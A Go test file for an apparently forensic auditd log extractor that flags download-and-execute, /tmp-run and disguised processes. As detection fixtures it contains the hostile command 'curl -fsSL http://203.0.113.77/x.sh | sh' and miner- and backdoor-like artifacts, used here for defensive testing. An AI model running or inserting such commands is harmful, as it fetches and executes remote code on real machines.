package audit

import (
	"fmt"
	"strings"
	"testing"

	"icecore/forensics/artifact"
	"icecore/forensics/artifact/artifacttest"
	"icecore/forensics/model"
)

const log = "/var/log/audit/audit.log"

func read(t testing.TB, text string, wanted func(*artifact.Record) bool) []artifact.Record {
	t.Helper()
	recs, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: log, Text: text, Wanted: wanted})
	if err != nil {
		t.Error(err)
	}
	return recs
}

func all(*artifact.Record) bool { return true }

// call is a SYSCALL line of execve.
func call(serial int, success, exe string) string {
	return fmt.Sprintf(`type=SYSCALL msg=audit(1794470502.000:%d): arch=c000003e syscall=59 success=%s exit=0 a0=1 a1=2 a2=3 a3=4 ppid=1 pid=302 auid=1000 uid=33 gid=33 euid=33 tty=pts0 ses=3 comm="x" exe="%s" key="exec"`+"\n", serial, success, exe)
}

func args(serial int, list ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "type=EXECVE msg=audit(1794470502.000:%d): argc=%d", serial, len(list))
	for i, a := range list {
		if strings.ContainsAny(a, " \"") {
			fmt.Fprintf(&b, " a%d=%X", i, a)
		} else {
			fmt.Fprintf(&b, " a%d=%q", i, a)
		}
	}
	return b.String() + "\n"
}

// TestExec: what a started program did, in whatever order its lines stand, and the twin
// that is not worth a record.
func TestExec(t *testing.T) {
	const fetch = "curl -fsSL http://203.0.113.77/x.sh | sh"
	for _, tt := range []struct {
		name, text    string
		traits, extra string // of the record; extra: a field that it has
	}{
		{"download and execute", call(1, "yes", "/usr/bin/dash") + args(1, "sh", "-c", fetch), "fetch,pipe_to_shell", "user=1000"},
		{"arguments first", args(1, "sh", "-c", fetch) + call(1, "yes", "/usr/bin/dash"), "fetch,pipe_to_shell", "exe=/usr/bin/dash"},
		{"arguments alone", args(1, "sh", "-c", fetch), "fetch,pipe_to_shell", "type=EXECVE"},
		{"a node that sent it", "node=web01 " + call(1, "yes", "/usr/bin/dash") + "node=web01 " + args(1, "sh", "-c", fetch), "fetch,pipe_to_shell", "uid=33"},
		{"a program of /tmp by its path alone", call(1, "yes", "/tmp/kdevtmpfsi"), "temp_exec", "command=/tmp/kdevtmpfsi"},
		{"a program of /tmp under another name", call(1, "yes", "/tmp/.x/k") + args(1, "[kworker]"), "temp_exec,hidden_exec", "command='[kworker]'"},
		{"lines of others between", call(1, "yes", "/tmp/k") + call(2, "yes", "/usr/bin/ls") + args(2, "ls") + args(1, "./k", "-c", "5"), "temp_exec", "args=./k,-c,5"},
		{"refused by the kernel", call(1, "no", "/tmp/kdevtmpfsi"), "", ""},
		{"an ordinary command", call(1, "yes", "/usr/bin/ls") + args(1, "ls", "-l", "/tmp"), "", ""},
		{"in the background", call(1, "yes", "/usr/bin/dash") + args(1, "sh", "-c", "sleep 5 &"), "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			recs := read(t, tt.text, nil)
			if len(recs) == 0 || recs[len(recs)-1].Kind != model.LogCoverage {
				t.Fatalf("no coverage of the log: %v", recs)
			}
			recs = recs[:len(recs)-1]
			if tt.traits == "" {
				if len(recs) != 0 {
					t.Errorf("a record: %s", artifacttest.Lines(recs))
				}
				return
			}
			if len(recs) != 1 {
				t.Fatalf("%d records: %s", len(recs), artifacttest.Lines(recs))
			}
			r := &recs[0]
			for _, w := range strings.Split(tt.traits, ",") {
				if !r.Contains("traits", w) {
					t.Errorf("traits %q, want %s", r.List("traits"), w)
				}
			}
			name, value, _ := strings.Cut(tt.extra, "=")
			if got := r.Field(name); got == nil || strings.Join(got.Items(), ",") != value {
				t.Errorf("%s is not %q: %s", name, value, artifacttest.Line(*r))
			}
		})
	}
}

// TestSame: a program started every minute is one record, with its first and last time.
func TestSame(t *testing.T) {
	var b strings.Builder
	for i := range 100 {
		b.WriteString(strings.Replace(call(i, "yes", "/tmp/k"), "1794470502", fmt.Sprint(1794470502+60*i), 1))
	}
	recs := read(t, b.String(), nil)
	if len(recs) != 2 || recs[0].Number("count") != 100 || recs[0].Time("last").Sub(recs[0].Time("first")).Minutes() != 99 {
		t.Errorf("%s", artifacttest.Lines(recs))
	}
}

// TestWanted: what a rule of the user's asks for beyond that.
func TestWanted(t *testing.T) {
	text := call(1, "yes", "/usr/bin/ls") + args(1, "ls") +
		"type=CWD msg=audit(1794470502.000:1): cwd=\"/root\"\n" +
		"type=PATH msg=audit(1794470502.000:1): item=0 name=\"/usr/bin/ls\" inode=7 mode=0100755 nametype=NORMAL\n" +
		"type=PROCTITLE msg=audit(1794470502.000:1): proctitle=\"ls\"\n" +
		`type=ADD_USER msg=audit(1794470504.000:4): pid=304 uid=0 auid=0 ses=3 msg='op=add-user acct="toor" exe="/usr/sbin/useradd" hostname=? addr=? terminal=? res=success'` + "\n" +
		`type=SERVICE_STOP msg=audit(1794470505.000:5): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=auditd comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'` + "\n" +
		"type=SYSCALL msg=audit(1794470506.000:6): arch=c000003e syscall=103 success=yes exit=0 a0=5 a1=0 a2=0 a3=0 pid=9 auid=0 uid=0 euid=0 tty=pts0 comm=\"dmesg\" exe=\"/usr/bin/dmesg\" key=(null)\n"
	got := artifacttest.Lines(read(t, text, all))
	for _, want := range []string{"command=ls", "pwd=/root", "type=PATH", "name=/usr/bin/ls", "nametype=NORMAL", "type=ADD_USER", "acct=toor", "type=SERVICE_STOP", "unit=auditd", "syscall=syslog"} {
		if !strings.Contains(got, want) {
			t.Errorf("no %s in\n%s", want, got)
		}
	}
	if recs := read(t, text, func(*artifact.Record) bool { return false }); len(recs) != 1 {
		t.Errorf("records that nobody wants: %s", artifacttest.Lines(recs))
	}
}

// TestBounds: a flood is cut and said, a text that is no log of auditd is odd.
func TestBounds(t *testing.T) {
	var b strings.Builder
	for i := range maxRecords + 5 {
		b.WriteString(args(i, "sh", "-c", fmt.Sprintf("curl http://203.0.113.77/%d | sh", i)))
	}
	_, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: log, Text: b.String()})
	if !artifact.IsCut(err) || !strings.Contains(err.Error(), "5 events over the bound") {
		t.Errorf("%v", err)
	}
	_, err = artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: log, Text: strings.Repeat("no line of it\n", 10)})
	if err == nil || !strings.Contains(err.Error(), "10 of 10 lines") {
		t.Errorf("%v", err)
	}
}

func FuzzExtract(f *testing.F) {
	f.Add([]byte(call(1, "yes", "/tmp/k") + args(1, "sh", "-c", "a b")))
	f.Add([]byte("node=x type=PATH msg=audit(1.2:3): name=41 nametype=CREATE\ntype=USER_LOGIN msg=audit(1.2:3): msg='op=login'\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		_, _ = artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: log, Text: string(b), Wanted: all})
	})
}
